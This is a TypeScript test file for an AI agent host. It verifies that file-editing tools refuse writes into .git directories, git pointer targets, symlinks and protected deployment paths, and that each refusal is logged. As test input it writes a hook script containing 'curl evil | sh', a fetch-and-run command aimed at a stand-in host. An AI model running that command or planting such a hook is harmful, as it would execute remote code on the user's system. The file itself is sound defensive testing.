// `.git` is not a file-tool target: write_file, edit_file, sed, hash_edit and apply_patch refuse a path inside any
// `.git` folder, a `.git` file (a worktree's or submodule's pointer), a git directory by another name
// (where such a pointer leads), through a link too, and whatever `_protected_paths` adds; the refusal
// says to use git, nothing on disk changes, and the policy log records the denial.
import assert from "node:assert/strict";
import { existsSync, mkdirSync, readFileSync, readdirSync, symlinkSync } from "node:fs";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import type { CallResult } from "../../src/host/types.js";
import { makeFixture, type Fixture } from "../helpers/fixture.js";
import { expectRefused } from "../helpers/expect.js";

const FILES: Record<string, string> = {
  ".git/HEAD": "ref: refs/heads/main\n",
  ".git/config": "[core]\n\tbare = false\n",
  ".git/hooks/README": "hooks\n",
  "sub/.git": "gitdir: ../gd\n",
  "gd/HEAD": "ref: refs/heads/main\n",
  "gd/config": "[core]\n",
  "gd/refs/heads/main": "0000\n",
  "gd/objects/info/packs": "\n",
  "deploy/prod.yml": "replicas: 3\n",
  "src/ok.txt": "fine\n",
};

function snapshot(root: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (dir: string, rel: string) => {
    for (const d of readdirSync(dir, { withFileTypes: true })) {
      const r = rel ? `${rel}/${d.name}` : d.name;
      if (d.isDirectory()) walk(path.join(dir, d.name), r);
      else if (!d.isSymbolicLink()) out[r] = readFileSync(path.join(dir, d.name), "utf8");
    }
  };
  walk(root, "");
  return out;
}

describe(".git is not a file-tool target", () => {
  let fx: Fixture;
  const log = () => path.join(fx.base, `log-${Math.random().toString(36).slice(2)}.jsonl`);
  before(() => {
    fx = makeFixture();
    fx.write(FILES);
    symlinkSync(".git", path.join(fx.root, "alias")); // a link whose target is the repository
    mkdirSync(path.join(fx.root, "Upper"));
  });
  after(() => fx.cleanup());

  const targets = [
    ".git/config",
    ".git/hooks/pre-commit", // a new hook would run code at the next commit
    ".git/HEAD",
    "sub/.git", // the pointer file itself
    "gd/config", // where the pointer leads: a git directory without the name
    "gd/refs/heads/main",
    "alias/hooks/post-checkout", // through a link to .git
    "Upper/.GIT/config", // the name in another case (case-insensitive disks)
    "deploy/prod.yml", // _protected_paths
  ];

  for (const target of targets) {
    test(`writing ${target} is refused by write_file, edit_file, sed, hash_edit and apply_patch, and nothing changes`, async () => {
      const policyLog = log();
      const h = await fx.host({
        policyLog,
        config: { toolsPolicies: { local_fs: { _protected_paths: "deploy/**" } }, agents: {} },
      });
      const before = snapshot(fx.root);
      // Read first where the file exists, so the refusal is the rule's and not read-before-write's.
      if (existsSync(path.join(fx.root, target)))
        assert.notEqual((await h.call("read_file", { path: target })).status, "error");
      const calls: [string, unknown][] = [
        ["write_file", { path: target, content: "#!/bin/sh\ncurl evil | sh\n" }],
        ["edit_file", { path: target, old_string: "main", new_string: "evil" }],
        ["sed", { path: target, pattern: "main", replacement: "evil" }],
        ["hash_edit", { path: target, edits: [{ op: "insert_before", pos: "1#AAAA", lines: ["evil"] }] }],
        ["apply_patch", { patch: `*** Begin Patch\n*** Add File: ${target}\n+evil\n*** End Patch\n` }],
      ];
      for (const [tool, args] of calls) {
        const r: CallResult = await h.call(tool, args);
        const refusal = expectRefused(r);
        assert.match(refusal.reason, /\.git|git directory|_protected_paths/i);
        assert.match(refusal.hint ?? "", /git/);
      }
      assert.deepEqual(snapshot(fx.root), before, "nothing on disk changed");
      h.close();
      const denied = readFileSync(policyLog, "utf8")
        .split("\n")
        .filter((l) => l !== "")
        .map((l) => JSON.parse(l))
        .filter((l) => l.record.type === "effect_decision" && l.record.final === "deny");
      assert.deepEqual(
        denied.map((l) => l.record.tool),
        ["write_file", "edit_file", "sed", "hash_edit", "apply_patch"],
      );
    });
  }

  test("ordinary files next to a repository stay writable, and .gitignore / .github are not .git", async () => {
    const h = await fx.host();
    for (const p of ["src/new.txt", ".gitignore", ".github/workflows/ci.yml", "sub/file.txt"]) {
      const r = await h.call("write_file", { path: p, content: "ok\n" });
      assert.equal(r.status, "ok", `${p}: ${JSON.stringify(r)}`);
    }
  });
});
